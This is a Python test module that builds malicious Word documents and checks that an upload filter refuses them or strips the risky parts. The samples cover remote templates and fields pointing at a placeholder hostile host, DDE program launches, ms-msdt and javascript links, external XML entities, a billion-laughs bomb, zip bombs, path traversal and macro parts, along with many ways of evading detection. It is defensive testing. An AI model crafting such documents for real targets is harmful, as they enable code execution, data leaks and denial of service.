"""Word documents made to do harm."""

from __future__ import annotations

from functools import cache

from tests.files.making import packed, repacked
from tests.files.test_uploads import picture
from tests.files.tricks import EVIL, LINKS, REL, STRICT, left_out, link, part_of, photo, refused, rels

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@cache
def word() -> bytes:
    """The smallest document: a text, its settings, and what leads to them."""
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    kinds = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    overrides = "".join(
        f'<Override PartName="/word/{name}.xml" ContentType="{kinds}.{kind}+xml"/>'
        for name, kind in (("document", "document.main"), ("settings", "settings"))
    )
    default = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    return packed(
        {
            "[Content_Types].xml": f'<Types xmlns="{types}">{default}{overrides}</Types>',
            "_rels/.rels": rels(link("officeDocument", "word/document.xml", "Internal", "rId1")),
            "word/document.xml": f'<?xml version="1.0"?><w:document {W} xmlns:r="{REL}"><w:body><w:sectPr/></w:body></w:document>',
            "word/_rels/document.xml.rels": rels(link("settings", "settings.xml", "Internal", "rId1")),
            "word/settings.xml": f"<w:settings {W}></w:settings>",
        }
    )


def document(body: str = "", relations: str = "", encoding: str = "utf-8", head: str = "", **parts: bytes) -> bytes:
    """A document that says KEPT, with this before its end; `parts` by their name under word/ ("media__a_png")."""
    plain = part_of(word(), "word/document.xml").partition("?>")[2]
    said = f"<w:p><w:r><w:t>KEPT</w:t></w:r></w:p>{body}<w:sectPr"
    main = f"<?xml version='1.0' encoding='{encoding}'?>{head}" + plain.replace("<w:sectPr", said, 1)
    links = part_of(word(), "word/_rels/document.xml.rels").replace("</Relationships>", f"{relations}</Relationships>")
    changes = {"word/document.xml": main.encode(encoding), "word/_rels/document.xml.rels": links.encode()}
    return repacked(
        word(), changes | {f"word/{name.replace('__', '/')}".replace("_", "."): data for name, data in parts.items()}
    )


def settings_rels(content: str, encoding: str = "utf-8") -> bytes:
    """A document whose settings have these relations."""
    return repacked(document(), {"word/_rels/settings.xml.rels": content.encode(encoding)})


def harmless_rels() -> bytes:
    return settings_rels(rels(link("hyperlink", "https://example.org/KEPT")))


TEMPLATE = link("attachedTemplate", EVIL)
for title, content, encoding in (
    ("a template from elsewhere", rels(TEMPLATE), "utf-8"),
    ("relations in UTF-16", rels(TEMPLATE, "<?xml version='1.0' encoding='utf-16'?>"), "utf-16"),
    ("relations in UTF-16 without a mark", rels(TEMPLATE, "<?xml version='1.0' encoding='utf-16'?>"), "utf-16-be"),
    ("a mode in character references", rels(TEMPLATE.replace("External", "&#69;xtern&#x61;l")), "utf-8"),
    (
        "a mode in single quotes over two lines",
        rels(TEMPLATE.replace(' TargetMode="External"', "\nTargetMode\n=\n'External'")),
        "utf-8",
    ),
    ("a mode in small letters", rels(TEMPLATE.replace("External", "external")), "utf-8"),
    ("an address that says it is inside", rels(TEMPLATE.replace("External", "Internal")), "utf-8"),
    ("an address without a mode", rels(TEMPLATE.replace(' TargetMode="External"', "")), "utf-8"),
    ("a share that says it is inside", rels(link("image", "\\\\evil\\PLANTED.png", "Internal")), "utf-8"),
    ("a share in percent signs", rels(link("image", "%5C%5Cevil%5CPLANTED.png", "Internal")), "utf-8"),
    ("an address without a scheme", rels(link("image", "//evil/PLANTED.png", "Internal")), "utf-8"),
    (
        "a mode by an entity",
        rels(TEMPLATE.replace("External", "&e;"), "<!DOCTYPE r [<!ENTITY e 'External'>]>"),
        "utf-8",
    ),
    (
        "relations under a prefix",
        f"<p:Relationships xmlns:p='{LINKS}'>{TEMPLATE.replace('<Rel', '<p:Rel')}</p:Relationships>",
        "utf-8",
    ),
    (
        "a harmless kind inside the name of another",
        rels(link("attachedTemplate", EVIL, key="relationships/hyperlink'")),
        "utf-8",
    ),
    ("two relations of one name", rels(link("hyperlink", "https://example.org") + TEMPLATE), "utf-8"),
    ("the other family of kinds", rels(link("image", EVIL, space=STRICT)), "utf-8"),
    ("a frame from elsewhere", rels(link("frame", EVIL)), "utf-8"),
    ("another document inside", rels(link("subDocument", "file:///c:/PLANTED.docx")), "utf-8"),
):
    refused(title, "docx", lambda content=content, encoding=encoding: settings_rels(content, encoding), harmless_rels)  # type: ignore[misc]

for title, target in (
    ("a link to a share", "file://evil/PLANTED/x.docx"),
    ("a link to a program", "javascript:PLANTED"),
    ("a link to a program's scheme", "ms-msdt:/id PLANTED"),
    ("a link to a path", "C:\\Users\\PLANTED\\x.docx"),
    ("a page's link with a share behind it", "https:\\\\evil\\PLANTED"),
):
    left_out(
        title,
        "docx",
        lambda target=target: document(
            '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>', link("hyperlink", target)
        ),  # type: ignore[misc]
        lambda: document(
            '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>KEPT</w:t></w:r></w:hyperlink></w:p>',
            link("hyperlink", "https://a.example"),
        ),
    )


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(*texts: str, tag: str = "instrText") -> str:
    return "".join(f"<w:r><w:{tag}>{text}</w:{tag}></w:r>" for text in texts)


def in_field(*inner: str) -> str:
    return f"<w:p>{mark('begin')}{''.join(inner)}{mark('separate')}<w:r><w:t>KEPT</w:t></w:r>{mark('end')}</w:p>"


def plain_fields() -> bytes:
    """Fields as people have them, over several runs, one in another."""
    number = f"{mark('begin')}{code('PAGE')}{mark('end')}"
    return document(
        in_field(code(" TO", 'C \\o "1-3" \\h '))
        + in_field(code("HYPER", 'LINK "https://a.example/x" \\o "a tip" \\t "_blank"'))
        + in_field(code('HYPERLINK \\l "_Toc1"'))
        + in_field(code("IF "), number, code(' = 1 "a" "b"'))
        + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;yyyy&quot; "/></w:p>'
    )


for title, body in (
    ("a picture that is fetched", in_field(code(f'INCLUDEPICTURE "{EVIL}" \\d'))),
    ("the same over many runs", in_field(code(*f'INCLUDEPICTURE "{EVIL}" \\d'))),
    ("the same over two paragraphs", in_field(code("INCLUDE"), "</w:p><w:p>", code(f'PICTURE "{EVIL}"'))),
    ("the same in small letters", in_field(code(f'  includePicture "{EVIL}"'))),
    ("the same in a simple field", f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"{EVIL}\"'/></w:p>"),
    (
        "the same put together by another field",
        in_field(mark("begin"), code("QUOTE 73 78 67"), mark("end"), code(f'LUDEPICTURE "{EVIL}"')),
    ),
    (
        "the same inside a harmless one",
        in_field(code("IF 1=1 "), mark("begin"), code(f'INCLUDEPICTURE "{EVIL}"'), mark("end")),
    ),
    ("the same as a deleted change", in_field(code(f'INCLUDEPICTURE "{EVIL}"', tag="delInstrText"))),
    ("the same that never ends", f"<w:p>{mark('begin')}{code(f'INCLUDEPICTURE {EVIL}')}</w:p>"),
    ("the same without a beginning", f"<w:p>{code(f'INCLUDEPICTURE {EVIL}')}</w:p>"),
    ("a program's data", in_field(code("DDE", "AUTO c:\\\\windows\\\\PLANTED.exe"))),
    ("a program's data when asked", in_field(code("DDE c:\\\\windows\\\\PLANTED.exe"))),
    ("a text that is fetched", in_field(code("INCLUDETEXT \\\\\\\\evil\\\\PLANTED.docx"))),
    ("an object that is fetched", in_field(code("LINK Excel.Sheet.8 PLANTED.xlsx"))),
    ("a table of a database", in_field(code('DATABASE \\d "PLANTED"'))),
    ("a document that is read along", in_field(code("RD PLANTED.docx"))),
    ("a button that runs", in_field(code("MACROBUTTON PLANTED x"))),
    ("a field that links to a share", in_field(code("HYPER", 'LINK "file://evil/PLANTED"'))),
    (
        "a field that links to where another says",
        in_field(code('HYPERLINK "'), mark("begin"), code("REF x"), mark("end"), code('"')),
    ),
    ("a field nobody knows", in_field(code("PLANTED x"))),
):
    refused(title, "docx", lambda body=body: document(body), plain_fields)  # type: ignore[misc]

FETCHED = in_field(code(f'INCLUDEPICTURE "{EVIL}"'))
refused(
    "a field in a part in UTF-16",
    "docx",
    lambda: document(FETCHED, encoding="utf-16"),
    lambda: document(encoding="utf-16"),
)
refused(
    "a field in a page's head",
    "docx",
    lambda: document(
        "", link("header", "header9.xml", "Internal"), header9_xml=f"<w:hdr {W}>{FETCHED}</w:hdr>".encode()
    ),
    lambda: document(
        "",
        link("header", "header9.xml", "Internal"),
        header9_xml=f"<w:hdr {W}>{in_field(code('PAGE'))}</w:hdr>".encode(),
    ),
)
refused(
    "an entity from elsewhere",
    "docx",
    lambda: document("<w:p>&x;</w:p>", head=f"<!DOCTYPE w [<!ENTITY x SYSTEM '{EVIL}'>]>"),
    document,
)
LAUGHS = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(8))
refused(
    "a billion laughs",
    "docx",
    lambda: document("<w:p>&l8;</w:p>", head=f"<!DOCTYPE w [<!ENTITY l0 'ha'>{LAUGHS}]>"),
    document,
)
for title, kind, target in (
    ("a web page inside", "aFChunk", "afchunk.html"),
    ("an object inside", "oleObject", "embeddings/ole.bin"),
    ("a whole file inside", "package", "embeddings/a.docx"),
    ("a control inside", "control", "activeX/a.xml"),
    ("a program inside", "vbaProject", "vbaProject.bin"),
):
    refused(
        title,
        "docx",
        lambda kind=kind, target=target: document("", link(kind, target, "Internal"), vbaProject_bin=b"PLANTED"),  # type: ignore[misc]
        lambda: document("", link("image", "media/a.png", "Internal"), media__a_png=picture()),
    )
refused("an object without a relation", "docx", lambda: document("<w:p><w:r><w:object/></w:r></w:p>"), document)
refused(
    "a document that says it holds macros",
    "docx",
    lambda: repacked(
        document(),
        {
            "[Content_Types].xml": part_of(word(), "[Content_Types].xml")
            .replace(
                "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                "vnd.ms-word.document.macroEnabled.main",
            )
            .encode()
        },
    ),
    document,
)
for title, name in (
    ("a printer's program as a picture", b"\x01\x00\x00\x00" + bytes(36) + b" EMF"),
    ("a packed file as a picture", packed({"x": "PLANTED"})),
):
    refused(
        title,
        "docx",
        lambda name=name: document("", link("image", "media/a.png", "Internal"), media__a_png=name),  # type: ignore[misc]
        lambda: document("", link("image", "media/a.gif", "Internal"), media__a_gif=picture("GIF")),
    )
refused(
    "a part that unpacks to far more",
    "docx",
    lambda: repacked(word(), {"word/document.xml": b" " * 17_000_000}),
    document,
)
refused(
    "parts whose names differ in capitals",
    "docx",
    lambda: repacked(document(), {"word/Document.xml": b"<x>PLANTED</x>"}),
    document,
)
refused(
    "more parts than a document has",
    "docx",
    lambda: repacked(document(), {f"word/{n}": b"" for n in range(2001)}),
    document,
)


def with_part(name: str, content: str, at_root: str = "", **more: bytes) -> bytes:
    """A document with a part more, to which the package or the document leads."""
    root = part_of(word(), "_rels/.rels").replace("</Relationships>", f"{at_root}</Relationships>").encode()
    return repacked(document(**more), {name: content.encode(), "_rels/.rels": root})


def settings_with(inner: str) -> bytes:
    plain = part_of(word(), "word/settings.xml").replace("</w:settings>", f"{inner}</w:settings>")
    return repacked(document(), {"word/settings.xml": plain.encode()})


REMARKS = (
    '<w:comments %s><w:comment w:id="1" w:author="%s" w:initials="%s" w:date="2026-01-01T00:00:00Z">'
    "<w:p><w:r><w:t>KEPT</w:t></w:r></w:p></w:comment></w:comments>"
)
for title, make in (
    (
        "the author of a remark",
        lambda: document(
            "",
            link("comments", "comments.xml", "Internal"),
            comments_xml=(REMARKS % (W, "PLANTED", "PLANTED")).encode(),
        ),
    ),
    (
        "the author of a change in single quotes",
        lambda: document("<w:p><w:ins w:id='1' w:author='PLANTED'><w:r><w:t>KEPT</w:t></w:r></w:ins></w:p>"),
    ),
    (
        "the author of a change in UTF-16",
        lambda: document(
            "<w:p><w:ins w:id='1' w:author='PLANTED'><w:r><w:t>KEPT</w:t></w:r></w:ins></w:p>", encoding="utf-16"
        ),
    ),
    ("the people of a document", lambda: with_part("word/people.xml", "<p>PLANTED</p>")),
    ("properties", lambda: with_part("docProps/core.xml", "<p>PLANTED</p>")),
    ("properties of the program", lambda: with_part("docProps/app.xml", "<p>PLANTED</p>")),
    (
        "properties under another name",
        lambda: with_part("props/x.xml", "<p>PLANTED</p>", link("extended-properties", "props/x.xml", "Internal")),
    ),
    (
        "own XML",
        lambda: with_part(
            "customXml/item1.xml", "<p>PLANTED</p>", link("customXml", "customXml/item1.xml", "Internal")
        ),
    ),
    (
        "a small picture of the first page",
        lambda: with_part(
            "docProps/thumbnail.jpeg", "PLANTED", link("thumbnail", "docProps/thumbnail.jpeg", "Internal")
        ),
    ),
    (
        "an add-in",
        lambda: with_part(
            "word/webextensions/t.xml",
            "<p>PLANTED</p>",
            link("webextensiontaskpanes", "word/webextensions/t.xml", "Internal"),
        ),
    ),
    (
        "a menu with programs",
        lambda: with_part(
            "customUI/customUI.xml", "<p>PLANTED</p>", link("ui/extensibility", "customUI/customUI.xml", "Internal")
        ),
    ),
    ("a part that nothing leads to", lambda: with_part("word/stray.bin", "PLANTED")),
    ("a part that climbs out of its folder", lambda: with_part("../../PLANTED.txt", "PLANTED")),
    ("a database for letters", lambda: settings_with('<w:mailMerge><w:connectString w:val="PLANTED"/></w:mailMerge>')),
    ("variables", lambda: settings_with('<w:docVars><w:docVar w:name="a" w:val="PLANTED"/></w:docVars>')),
    ("the times it was written at", lambda: settings_with('<w:rsids><w:rsidRoot w:val="PLANTED"/></w:rsids>')),
    (
        "the times beside a paragraph",
        lambda: document('<w:p w:rsidR="PLANTED"><w:r w:rsidRPr="PLANTED"><w:t>KEPT</w:t></w:r></w:p>'),
    ),
    ("a film from elsewhere", lambda: document('<w:p><x:webVideoPr xmlns:x="urn:x" embeddedHtml="PLANTED"/></w:p>')),
    (
        "where a picture lay",
        lambda: document(
            '<w:p><x:docPr xmlns:x="urn:x" descr="C:\\Users\\PLANTED\\x.png" name="/mnt/PLANTED/KEPT"/></w:p>'
        ),
    ),
    (
        "where its template lay",
        lambda: settings_rels(rels(link("attachedTemplate", "file:///C:\\Users\\PLANTED\\own.dotx"))),
    ),
    ("a remark in the XML", lambda: document("<!-- PLANTED --><?x PLANTED?>")),
    (
        "a web page as a picture",
        lambda: document("", link("image", "media/a.png", "Internal"), media__a_png=b"<svg>PLANTED</svg>"),
    ),
    (
        "the camera of a picture inside",
        lambda: document("", link("image", "media/a.jpg", "Internal"), media__a_jpg=photo()),
    ),
):
    left_out(title, "docx", make, document)
